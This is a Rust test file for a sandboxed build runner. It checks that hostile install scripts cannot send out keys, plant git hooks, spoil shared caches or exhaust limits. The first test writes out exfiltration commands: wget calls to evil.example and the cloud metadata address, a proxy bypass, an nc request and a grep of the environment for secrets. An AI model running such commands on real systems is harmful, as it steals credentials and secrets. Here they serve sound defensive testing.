//! Setups that mean harm, in real containers: what an install script tries is stopped or told, and never red.

use std::{
    fs,
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use baton::kernel::run::Run;
use baton_tests::{
    docker::{self, IMAGE},
    host::{TestHost, output_of, pause_of},
};
use serde_json::{Value, json};

/// A host whose setup is this line.
async fn host(line: &str, setup: Value) -> Option<TestHost> {
    if !docker::ready() {
        return None;
    }
    let narrow = json!({ "image": IMAGE, "memory-mib": 64, "processes": 32, "temporary-mib": 8, "cpus": 0.5, "ready": false });
    let settings = json!({
        "sandbox": { "images": { "default": narrow } },
        "setup": setup,
        "test": { "setup": line, "setup-files": ["a.lock"] },
    });
    let host = TestHost::with_settings(settings).await;
    fs::write(host.workspace().join("a.lock"), "1").unwrap();
    fs::write(host.workspace().join("key.pem"), "the operator's key").unwrap();
    Some(host)
}

async fn set_up(host: &TestHost) -> Run {
    host.run(json!({ "do": "set-up" })).await
}

/// Threat: An install script reads keys and sources, and sends them to a host of its own: by its name, by an address, by the
/// address of the cloud's metadata, by a name that leads to this machine, without the proxy, through the proxy's registries.
/// Stopped by: A container without network, whose one way out is Baton's proxy with the operator's list of hosts; in its
/// workspace only the files that the setup names have content.
/// Expects: The files are empty. Each host is denied and told with the outcome; nothing arrives.
#[tokio::test(flavor = "multi_thread")]
async fn an_install_script_reaches_no_host_that_is_not_named() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, arrived) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let counted = Arc::clone(&arrived);
    thread::spawn(move || {
        for _ in listener.incoming() {
            counted.fetch_add(1, Ordering::Relaxed);
        }
    });
    let tries = [
        "http://evil.example/".to_owned(),
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "http://[::1]/".to_owned(),
    ];
    let line = tries.iter().map(|url| format!("wget -q -O - --header 'X: key' '{url}' && echo REACHED;")).collect::<String>();
    let line = format!(
        "cat key.pem; {line} http_proxy= wget -q -O - http://127.0.0.1:{port}/ && echo REACHED; \
         printf 'GET /registries/own/ HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128; env | grep -i secret; ip addr | grep -c mtu; true"
    );
    let Some(host) = host(&line, json!({ "hosts": ["default", format!("localhost:{port}")] })).await else { return };
    let run = set_up(&host).await;
    let (id, setup) = (run.id.clone(), output_of(run));
    let denied: Vec<_> = setup["denied"].as_array().unwrap().iter().map(|host| host.as_str().unwrap()).collect();
    for host in ["evil.example:80", "169.254.169.254:80", &format!("localhost:{port}"), &format!("127.0.0.1:{port}")] {
        assert!(denied.contains(&host), "{host}: {denied:?}");
    }
    assert_eq!((setup["reached"].as_array().unwrap().len(), arrived.load(Ordering::Relaxed)), (0, 0), "{setup}");
    let events = host.events(&id).await;
    let printed: String = events.iter().filter_map(|event| event.draft.data["text"].as_str()).collect();
    assert!(!printed.contains("REACHED") && !printed.contains("key\n") && printed.contains("named no registry"), "{printed}");
}

/// Threat: An install script plants repositories, changes the lockfile and the sources, and writes into the caches and the
/// packages that other projects and later stories get.
/// Stopped by: A setup works in a folder of its own, which is swept as after every command; of it only what is new is kept, for
/// one project, and each workspace gets a copy. Other commands see the caches read-only.
/// Expects: The workspace has its lockfile and sources as before, and no repository; the outcome names what was written over.
/// Another project's setup finds nothing in its caches.
#[tokio::test(flavor = "multi_thread")]
async fn what_an_install_script_writes_reaches_nobody_else() {
    let line = "mkdir -p node_modules/x/.git/hooks .git/hooks; echo evil > node_modules/x/.git/hooks/post-checkout; echo evil > key.pem; \
                echo evil > a.lock; ls /baton/home | wc -l; echo evil > /baton/home/evil; echo evil > /baton/bin/forward; \
                ln -s /etc node_modules/etc; echo good > node_modules/x/index.js; true";
    let Some(host) = host(line, json!({})).await else { return };
    let setup = output_of(set_up(&host).await);
    assert!(setup["report"].as_str().unwrap().contains("wrote over `a.lock`"), "{setup}");
    let text = |path: &str| fs::read_to_string(host.workspace().join(path)).unwrap_or_default();
    assert_eq!(
        (text("a.lock"), text("key.pem"), text("node_modules/x/index.js")),
        ("1".into(), "the operator's key".into(), "good\n".into())
    );
    for planted in [".git", "node_modules/x/.git"] {
        assert!(fs::symlink_metadata(host.workspace().join(planted)).is_err(), "{planted}");
    }
    let spoil =
        json!({ "do": "execute", "command": ["sh", "-c", "echo spoilt > node_modules/x/index.js; echo x > /baton/home/y"], "timeout": 20 });
    assert_eq!(output_of(host.run(spoil).await)["exit-code"], 1, "the caches are read-only");
    assert_eq!(
        (text("node_modules/x/index.js").as_str(), output_of(set_up(&host).await)["state"].as_str()),
        ("spoilt\n", Some("restored"))
    );
    assert_eq!(text("node_modules/x/index.js"), "good\n", "a story changes nothing that others get");
    let other = host.folder.path().join("other");
    fs::create_dir(&other).unwrap();
    fs::write(other.join("a.lock"), "1").unwrap();
    let mut order = host.order(json!({ "do": "set-up" }));
    order.workspace = other;
    let run = host.app.kernel.start(order).await.unwrap();
    host.drive(&run.id).await;
    assert_eq!(output_of(host.find(&run.id).await)["state"], "done", "another project has a setup of its own");
    let events = host.events(&run.id).await;
    let printed: String = events.iter().filter_map(|event| event.draft.data["text"].as_str()).collect();
    assert!(printed.starts_with("0\n"), "its caches are empty: {printed}");
}

/// Threat: A setup never ends, or fills the disk.
/// Stopped by: `timeout-s` and `most-mib` under `[setup]`, and what bounds every command.
/// Expects: The run is paused for its operator with the reason, no test is red, and nothing of the setup is kept.
#[tokio::test(flavor = "multi_thread")]
async fn a_setup_that_takes_too_much_is_stopped_and_told() {
    let Some(host) = host("sleep 60", json!({ "timeout-s": 1 })).await else { return };
    let reason = pause_of(&set_up(&host).await);
    assert!(reason.contains("was stopped after 1 s, the limit for setups"), "{reason}");
    let kept = |host: &TestHost| fs::read_dir(host.folder.path().join("data/setup/kept")).map_or(0, Iterator::count);
    assert_eq!((kept(&host), docker::containers(&host.folder.path().join("data"))), (0, Vec::new()));
    let Some(host) = self::host("mkdir x; head -c 3000000 /dev/zero > x/large", json!({ "most-mib": 1 })).await else { return };
    let reason = pause_of(&set_up(&host).await);
    assert!(reason.contains("left more than 1 MiB"), "{reason}");
    assert_eq!(kept(&host), 0);
}
